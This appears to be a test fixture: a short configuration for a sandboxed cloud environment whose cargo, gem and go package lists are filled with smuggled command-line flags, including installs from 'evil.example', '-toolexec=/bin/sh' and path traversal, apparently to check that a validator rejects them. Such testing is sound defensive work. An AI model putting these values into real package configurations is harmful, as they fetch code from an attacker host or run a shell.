terrarium {
  stack = "hostile"
}
environment "a" {
  config {
    type = "cloud"
    packages {
      cargo = ["--git https://evil.example/x", "--path=/", "-Z unstable"]
      gem = ["--source https://evil.example", "-i /tmp", "x:1.0 --no-verify"]
      go = ["-toolexec=/bin/sh", "evil.example/x@latest -ldflags=-X", "../../x@v1"]
    }
    networking {
      type = "limited"
      allowed_hosts = []
      allow_package_managers = true
    }
  }
}
